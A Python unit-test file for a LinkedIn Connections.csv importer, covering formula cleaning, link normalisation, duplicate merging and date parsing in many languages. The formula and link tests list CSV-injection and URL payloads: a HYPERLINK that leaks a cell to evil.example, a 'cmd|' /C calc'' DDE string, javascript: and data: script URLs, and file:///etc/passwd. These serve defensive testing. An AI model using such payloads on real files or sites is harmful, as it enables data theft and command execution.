"""What stands in the cells of a Connections.csv: formulas, links, duplicates, dates."""

from datetime import date

import pytest

from tests.unit.profiles.files import ANA, BO, names, read, reasons, table


@pytest.mark.parametrize(
    "formula",
    [
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")"',
        "=1+1",
        " =1+1",
        "\t=1+1",
        "@SUM(A1:A9)",
        "+SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "'=1+1",
        "\uff1d1+1",
        "+491234",
    ],
)
def test_a_formula_is_never_stored(formula):
    report = read(table(f"{formula},Silva,,,,,", f"Bo,Li,,{formula},{formula},{formula},"))
    silva, bo = report.records
    assert silva.name.endswith("Silva")
    assert silva.name[0] not in "=+-@\uff1d"
    assert (bo.email, bo.company, bo.position) == (None, None, None)
    assert len(report.warnings) == 4


def test_a_name_that_is_a_formula_is_cleaned_not_lost():
    names_of = ['"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")"', "=Ana", "+Ana", "=1+1"]
    report = read(table(*(f"{first},Silva{place},,,,," for place, first in enumerate(names_of))))
    assert names(report) == ["Ana Silva0", "Ana Silva1", "Ana Silva2", "Silva3"]
    assert "line 2: the name was a formula and was cleaned" in report.warnings


def test_a_sign_before_words_is_taken_off():
    report = read(table("Ana,Silva,,,@Home Systems,- Head of Sales,", "Bo,+Li,,,-,--,"))
    assert (report.records[0].company, report.records[0].position) == ("Home Systems", "Head of Sales")
    assert (report.records[1].name, report.records[1].company, report.records[1].position) == ("Bo Li", None, None)
    assert len(report.warnings) == 3


def test_an_apostrophe_before_a_name_stays():
    assert names(read(table("Jan,'t Hooft,,,,,"))) == ["Jan 't Hooft"]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        '"data:text/html,<script>alert(1)</script>"',
        "vbscript:x",
        "file:///etc/passwd",
        "https://user:pass@www.linkedin.com/in/x",
        "https://www.linkedin.com@evil.example/in/x",
        "//evil.example",
        "https://",
        "https://[bad/in/x",
        "https://host:99999/",
        "https://www.linkedin.com/in/<script>",
    ],
)
def test_a_link_that_is_no_plain_web_address_is_left_out(url):
    report = read(table(f"Ana,Silva,{url},,,,"))
    assert report.records[0].url is None
    assert len(report.warnings) == 1


@pytest.mark.parametrize(
    "url",
    [
        "http://www.linkedin.com/in/ana-silva",
        "https://WWW.LinkedIn.com/in/ana-silva/",
        "https://www.linkedin.com/in/ana-silva?trk=x&y=z#top",
        "www.linkedin.com/in/ana-silva",
        " https://www.linkedin.com:443/in/ana-silva ",
    ],
)
def test_a_profile_link_is_stored_in_one_form(url):
    assert read(table(f"Ana,Silva,{url},,,,")).records[0].url == "https://www.linkedin.com/in/ana-silva"


# Duplicates


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("https://www.linkedin.com/in/jos%C3%A9-s", "https://www.linkedin.com/in/José-S/"),
        ("https://www.linkedin.com/in/ana", "http://de.linkedin.com/in/ANA?x=1"),
        ("https://www.linkedin.com/in/ana", "linkedin.com/in/ana"),
        ("https://example.org/ana", "https://EXAMPLE.org/ana/"),
    ],
)
def test_the_same_link_twice_is_one_contact(first, second):
    report = read(table(f"Ana,Silva,{first},,,,", BO, f"Anna,Sylva,{second},,Other,,"))
    assert names(report) == ["Ana Silva", "Bo Li"]
    assert reasons(report) == {4: "duplicate of line 2"}


def test_the_same_address_twice_is_one_contact():
    report = read(table("Ana,Silva,,ana@example.org,,,", "A.,Silva,,ANA@example.org,,,"))
    assert reasons(report) == {3: "duplicate of line 2"}


def test_the_same_name_and_company_is_one_contact_where_nothing_better_is_known():
    report = read(table("Ana,Silva,,,Initech,,", "ana,SILVA,,,initech,,", "Ana,Silva,,,Globex,,"))
    assert report.accepted == 2
    assert reasons(report) == {3: "duplicate of line 2"}


def test_two_people_of_one_name_with_links_of_their_own_are_two():
    assert read(table(ANA, ANA.replace("ana-silva", "ana-silva-2"))).accepted == 2


# Dates


@pytest.mark.parametrize(
    "text",
    [
        "05 Jan 2024",
        "5 January 2024",
        '"Jan 5, 2024"',
        '"January 5th, 2024"',
        "2024-01-05",
        "2024/01/05",
        "2024-01-05T10:00:00Z",
        "2024-01-05 10:11:12 UTC",
        '"05 Jan 2024, 10:33 AM"',
        "5-Jan-24",
        "05.01.2024",
        "12. Jan. 2024".replace("12", "5"),
        "5 janv. 2024",
        "5 de ene. de 2024",
        "5 de janeiro de 2024",
        "5 gen 2024",
        "5 januari 2024",
        "5 stycznia 2024",
        "5 янв. 2024 \u0433.",
        "2024年1月5日",
        "2024년 1월 5일",
        "2024. 1. 5.",
        '"Friday, January 5, 2024"',
    ],
)
def test_dates(text):
    assert read(table(f"Ana,Silva,,,,,{text}")).records[0].connected_on == date(2024, 1, 5)


def test_a_month_is_its_first_day():
    report = read(table("Ana,Silva,,,,,Mar 2020", "Bo,Li,,,,,2020-03"))
    assert {record.connected_on for record in report.records} == {date(2020, 3, 1)}


@pytest.mark.parametrize("text", ["31 Feb 2024", "soon", "13/13/2024", "00/00/0000", "=TODAY()"])
def test_an_unreadable_date_is_left_out_with_a_warning(text):
    report = read(table(f"Ana,Silva,,,,,{text}"))
    assert report.records[0].connected_on is None
    assert any("line 2" in warning for warning in report.warnings)


@pytest.mark.parametrize(("other", "expected"), [("25/12/2023", date(2024, 4, 3)), ("12/25/2023", date(2024, 3, 4))])
def test_the_other_dates_of_the_file_say_which_number_is_the_day(other, expected):
    report = read(table("Ana,Silva,,,,,03/04/2024", f"Bo,Li,,,,,{other}"))
    assert report.records[0].connected_on == expected
    assert report.records[1].connected_on == date(2023, 12, 25)
    assert report.warnings == ()


@pytest.mark.parametrize(("others", "why"), [((), "no other date"), (("25/12/2023", "12/27/2023"), "both orders")])
def test_where_the_column_does_not_say_which_number_is_the_day_it_is_not_guessed(others, why):
    report = read(
        table(*(f"P{at},X,,,,,{day}" for at, day in enumerate(("03/04/2024", "5/5/24", "3.4.2024", *others))))
    )
    days = [record.connected_on for record in report.records]
    assert days[:3] == [None, date(2024, 5, 5), date(2024, 4, 3)]
    assert all(days[3:])
    assert any(why in warning for warning in report.warnings)


def test_a_year_alone_is_its_first_day():
    assert read(table("Ana,Silva,,,,,2020")).records[0].connected_on == date(2020, 1, 1)
